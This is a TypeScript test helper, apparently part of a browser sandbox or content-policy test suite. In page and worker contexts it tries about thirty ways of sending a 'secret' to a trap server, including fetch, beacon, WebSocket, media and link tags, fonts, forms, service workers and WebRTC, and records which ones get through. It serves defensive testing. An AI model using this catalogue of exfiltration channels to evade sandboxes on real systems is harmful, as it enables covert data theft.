// Every way a page or a worker could send something out, as functions that run in the browser.
// Each resolves to a word on what happened; the tests believe the servers' logs, not these words.

/** Addresses to try: a trap's and our own origin's. */
export interface Targets {
  http: string;
  ws: string;
  stun: string;
}

/** Tries all channels of a page. Runs inside the page. */
export async function tryFromPage({ http, ws, stun }: Targets): Promise<Record<string, string>> {
  const outcome: Record<string, string> = {};
  const settle = (name: string, attempt: () => Promise<unknown>) => {
    const patience = new Promise((done) => setTimeout(done, 1500, "silent"));
    return Promise.race([Promise.resolve().then(attempt), patience]).then(
      (value) => { outcome[name] = value === "silent" ? "silent" : "passed"; },
      (error) => { outcome[name] = `refused: ${error?.name ?? error}`; },
    );
  };
  const element = (tag: string, attributes: Record<string, string>) => new Promise((done, failed) => {
    const made = document.createElement(tag);
    made.addEventListener("load", done);
    made.addEventListener("error", () => failed(new Error("error event")));
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
  });
  await Promise.all([
    settle("fetch", () => fetch(`${http}/page-fetch?secret`, { mode: "no-cors" })),
    settle("fetch with a body", () => fetch(`${http}/page-post`, { method: "POST", body: "secret", mode: "no-cors" })),
    settle("keepalive fetch", () => fetch(`${http}/page-keepalive`, { method: "POST", body: "secret", keepalive: true, mode: "no-cors" })),
    settle("xhr", () => new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = () => failed(new Error("error event"));
      request.open("GET", `${http}/page-xhr?secret`);
      request.send();
    })),
    settle("beacon", async () => navigator.sendBeacon(`${http}/page-beacon`, "secret")),
    settle("websocket", () => new Promise((done, failed) => {
      const socket = new WebSocket(`${ws}/page-websocket`);
      socket.onopen = done;
      socket.onerror = () => failed(new Error("error event"));
    })),
    settle("event source", () => new Promise((done, failed) => {
      const source = new EventSource(`${http}/page-events`);
      source.onopen = done;
      source.onerror = () => failed(new Error("error event"));
    })),
    settle("image", () => element("img", { src: `${http}/page-image?secret` })),
    settle("style sheet", () => element("link", { rel: "stylesheet", href: `${http}/page-style?secret` })),
    settle("icon", () => element("link", { rel: "icon", href: `${http}/page-icon?secret` })),
    settle("manifest", () => element("link", { rel: "manifest", href: `${http}/page-manifest?secret` })),
    settle("prefetch", () => element("link", { rel: "prefetch", href: `${http}/page-prefetch?secret` })),
    settle("preload", () => element("link", { rel: "preload", as: "fetch", href: `${http}/page-preload?secret` })),
    settle("module preload", () => element("link", { rel: "modulepreload", href: `${http}/page-modulepreload?secret` })),
    settle("script", () => element("script", { src: `${http}/page-script?secret` })),
    settle("dynamic import", () => import(`${http}/page-import?secret`)),
    settle("iframe", () => element("iframe", { src: `${http}/page-iframe?secret` })),
    settle("object", () => element("object", { data: `${http}/page-object?secret` })),
    settle("audio", () => element("audio", { src: `${http}/page-audio?secret` })),
    settle("video poster", () => element("video", { poster: `${http}/page-poster?secret` })),
    settle("font", () => new FontFace("secret", `url(${http}/page-font?secret)`).load()),
    settle("css picture", async () => {
      document.body.style.backgroundImage = `url(${http}/page-css-picture?secret)`;
      await new Promise((done) => setTimeout(done, 300));
    }),
    settle("ping", async () => {
      const anchor = document.createElement("a");
      anchor.href = "#here";
      anchor.setAttribute("ping", `${http}/page-ping?secret`);
      document.body.append(anchor);
      anchor.click();
    }),
    settle("form", async () => {
      const form = document.createElement("form");
      form.action = `${http}/page-form`;
      form.method = "post";
      document.body.append(form);
      form.submit();
      await new Promise((done) => setTimeout(done, 300));
    }),
    settle("worker file", () => new Promise((done, failed) => {
      const worker = new Worker(`${http}/page-worker.js?secret`);
      worker.onmessage = done;
      worker.onerror = () => failed(new Error("error event"));
    })),
    settle("service worker", () => navigator.serviceWorker.register(`${http}/page-service-worker.js?secret`)),
    settle("webrtc", async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      connection.createDataChannel("secret");
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((done) => setTimeout(done, 1000));
    }),
    settle("webtransport", async () => {
      await new (window as any).WebTransport(http.replace("http:", "https:")).ready;
    }),
  ]);
  return outcome;
}

/** Tries all channels of a worker. Runs inside the worker. */
export async function tryFromWorker({ http, ws }: Targets): Promise<Record<string, string>> {
  const scope = self as any;
  const outcome: Record<string, string> = {};
  const settle = (name: string, attempt: () => Promise<unknown>) => {
    const patience = new Promise((done) => setTimeout(done, 1500, "silent"));
    return Promise.race([Promise.resolve().then(attempt), patience]).then(
      (value) => { outcome[name] = value === "silent" ? "silent" : "passed"; },
      (error) => { outcome[name] = `refused: ${error?.name ?? error}`; },
    );
  };
  await Promise.all([
    settle("fetch", () => fetch(`${http}/worker-fetch?secret`, { mode: "no-cors" })),
    settle("xhr", () => new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = () => failed(new Error("error event"));
      request.open("GET", `${http}/worker-xhr?secret`);
      request.send();
    })),
    settle("websocket", () => new Promise((done, failed) => {
      const socket = new WebSocket(`${ws}/worker-websocket`);
      socket.onopen = done;
      socket.onerror = () => failed(new Error("error event"));
    })),
    settle("event source", () => new Promise((done, failed) => {
      const source = new EventSource(`${http}/worker-events`);
      source.onopen = done;
      source.onerror = () => failed(new Error("error event"));
    })),
    settle("importScripts", async () => scope.importScripts(`${http}/worker-script.js?secret`)),
    settle("dynamic import", () => import(`${http}/worker-import.js?secret`)),
    settle("worker file", () => new Promise((done, failed) => {
      const worker = new Worker(`${http}/worker-worker.js?secret`);
      worker.onmessage = done;
      worker.onerror = () => failed(new Error("error event"));
    })),
    settle("font", () => new FontFace("secret", `url(${http}/worker-font?secret)`).load()),
    settle("cache", async () => (await caches.open("secret")).add(`${http}/worker-cache?secret`)),
    settle("webrtc", async () => new scope.RTCPeerConnection()),
  ]);
  return outcome;
}
